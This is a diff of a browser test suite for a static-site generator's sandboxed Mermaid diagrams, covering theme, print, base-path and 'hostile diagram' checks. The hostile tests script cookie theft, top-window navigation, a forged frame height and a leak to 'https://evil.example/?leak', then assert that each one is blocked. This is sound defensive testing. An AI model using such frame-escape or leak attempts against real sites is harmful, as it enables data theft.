@@ -15,20 +15,17 @@ const notes = join(folder, 'notes')
 
 let browser: Browser
 let site: BuiltSite
-let siteBelow: BuiltSite
 
 beforeAll(async () => {
 	cpSync(join(import.meta.dirname, '../fixtures/diagrams'), notes, { recursive: true })
 	writeFileSync(join(notes, 'large.md'), `\`\`\`mermaid\nflowchart LR\n${'  A --> B\n'.repeat(5100)}\`\`\`\n`)
 	browser = await launchBrowser()
-	site = await buildAndServe(notes)
-	siteBelow = await buildAndServe(notes, '--base', '/wiki/')
+	site = await buildAndServe(notes, '--base', '/wiki/')
 })
 
 afterAll(async () => {
 	await browser.close()
 	await site.close()
-	await siteBelow.close()
 	rmSync(folder, { recursive: true, force: true })
 })
 
@@ -82,12 +79,9 @@ async function attempt(frame: Frame, code: string): Promise<string> {
 	}, code)
 }
 
-describe.each([
-	['at the root', () => site],
-	['under a base path', () => siteBelow],
-])('a diagram %s', (_where, built) => {
-	it('is drawn in a frame with its name, and its source stays at hand', async () => {
-		const { page, faults } = await open(`${built().url}flow/`)
+describe('a diagram', () => {
+	it('is drawn in a frame with its name, its source stays at hand, and what is printed is the drawing', async () => {
+		const { page, faults } = await open(`${site.url}flow/`)
 		const frame = await drawn(page)
 		expect(await frame.locator('svg').textContent()).toContain('Stock of water')
 		const figure = page.locator('figure.diagram').first()
@@ -99,6 +93,9 @@ describe.each([
 		await figure.getByText('Source of the diagram').click()
 		expect(await figure.locator('pre').textContent()).toContain('-->|drains| Flow(Flow)')
 		await expect.poll(() => page.locator('figure.diagram[data-state=drawn]').count(), patience).toBe(2)
+		await page.emulateMedia({ media: 'print' })
+		expect(await page.locator('.diagram-source').first().isVisible()).toBe(false)
+		expect(await iframe.isVisible()).toBe(true)
 		expect(faults).toEqual([])
 	})
 
@@ -106,7 +103,7 @@ describe.each([
 		['the home page', '', 'Wanted'],
 		['a page that embeds it', 'embedding/', 'answers'],
 	])('is drawn on %s', async (_page, path, text) => {
-		const { page, faults } = await open(built().url + path)
+		const { page, faults } = await open(site.url + path)
 		expect(await (await drawn(page)).locator('svg').textContent()).toContain(text)
 		expect(faults).toEqual([])
 	})
@@ -162,18 +159,16 @@ describe('the theme', () => {
 			return numbers.slice(0, 3).reduce((sum, number) => sum + Number(number), 0) / 3
 		})
 
-	it('of the page is that of the diagram', async () => {
-		const light = await open(`${site.url}flow/`, { colorScheme: 'light' })
-		const dark = await open(`${site.url}flow/`, { colorScheme: 'dark' })
-		expect(await inkOf(await drawn(light.page))).toBeLessThan(90)
-		expect(await inkOf(await drawn(dark.page))).toBeGreaterThan(160)
-	})
-
-	it('changes with that of the page', async () => {
-		const { page, faults } = await open(`${site.url}flow/`, { colorScheme: 'light' })
+	it.each([
+		['light', 'dark'],
+		['dark', 'light'],
+	] as const)('is %s as the page is, and turns %s with it', async (colorScheme, other) => {
+		const { page, faults } = await open(`${site.url}flow/`, { colorScheme })
 		const frame = await drawn(page)
-		await page.evaluate(() => document.documentElement.setAttribute('data-theme', 'dark'))
-		await expect.poll(() => inkOf(frame), patience).toBeGreaterThan(160)
+		const looks = async () => ((await inkOf(frame)) < 125 ? 'light' : 'dark')
+		expect(await looks()).toBe(colorScheme)
+		await page.evaluate(theme => document.documentElement.setAttribute('data-theme', theme), other)
+		await expect.poll(looks, patience).toBe(other)
 		expect(faults).toEqual([])
 	})
 })
@@ -196,7 +191,7 @@ describe('a hostile diagram', () => {
 		expect(faults.filter(fault => !fault.startsWith('Executing inline event handler violates'))).toEqual([])
 	})
 
-	it('could do nothing even if it ran', async () => {
+	it('could do nothing even if it ran, and is refused all that a frame can ask for', async () => {
 		const { page } = await open(`${site.url}hostile/`)
 		const frame = await drawn(page)
 		const address = JSON.stringify(site.url)
@@ -206,11 +201,6 @@ describe('a hostile diagram', () => {
 		expect(await attempt(frame, 'document.cookie')).toBe('SecurityError')
 		expect(await attempt(frame, `top.location = ${address}`)).toBe('SecurityError')
 		expect(await frame.evaluate(() => open('/'))).toBe(null)
-	})
-
-	it('is refused all that a frame can ask for', async () => {
-		const { page } = await open(`${site.url}hostile/`)
-		const frame = await drawn(page)
 		const refused = () => frame.evaluate(() => (globalThis as { refused?: string[] }).refused?.toSorted())
 		await frame.evaluate(() => {
 			const list: string[] = []
@@ -244,19 +234,8 @@ describe('a hostile diagram', () => {
 		expect(await frame.evaluate(() => 'ran' in globalThis)).toBe(false)
 	})
 
-	it('cannot send its frame to another site', async () => {
+	it('is believed nothing, and cannot send its frame to another site', async () => {
 		const { page, requests } = await open(`${site.url}hostile/`)
-		const frame = await drawn(page)
-		const refused = page.waitForEvent('console', message => message.text().includes('frame-src'))
-		await frame.evaluate(() => {
-			location.href = 'https://evil.example/?leak'
-		})
-		await refused
-		expect(requests.filter(url => url.includes('evil'))).toEqual([])
-	})
-
-	it('is believed nothing: what its frame says of itself is clamped', async () => {
-		const { page } = await open(`${site.url}hostile/`)
 		const frame = await drawn(page)
 		await frame.evaluate(() => {
 			parent.postMessage({ kind: 'drawn', height: 1e9 }, '*')
@@ -266,6 +245,12 @@ describe('a hostile diagram', () => {
 		})
 		const height = () => page.locator('figure.diagram > iframe').evaluate(element => element.clientHeight)
 		await expect.poll(height, patience).toBe(6000)
+		const refused = page.waitForEvent('console', message => message.text().includes('frame-src'))
+		await frame.evaluate(() => {
+			location.href = 'https://evil.example/?leak'
+		})
+		await refused
+		expect(requests.filter(url => url.includes('evil'))).toEqual([])
 	})
 })
 
@@ -290,19 +275,11 @@ describe('a page with a diagram', () => {
 			expect(await violationsOf(page), `${path} ${colorScheme} ${width}`).toEqual([])
 		}
 	})
-
-	it('prints the drawing and not its source', async () => {
-		const { page } = await open(`${site.url}flow/`)
-		await drawn(page)
-		await page.emulateMedia({ media: 'print' })
-		expect(await page.locator('.diagram-source').first().isVisible()).toBe(false)
-		expect(await page.locator('figure.diagram > iframe').first().isVisible()).toBe(true)
-	})
 })
 
 describe('marcasite dev', () => {
-	it('draws under a base path too', async () => {
-		const { url } = await startServing(folder, ['dev', 'notes', '--base', '/p/'])
+	it('draws at the root of a host too', async () => {
+		const { url } = await startServing(folder, ['dev', 'notes'])
 		const { page } = await open(`${url}flow/`)
 		expect(await (await drawn(page)).locator('svg').textContent()).toContain('Stock of water')
 	})
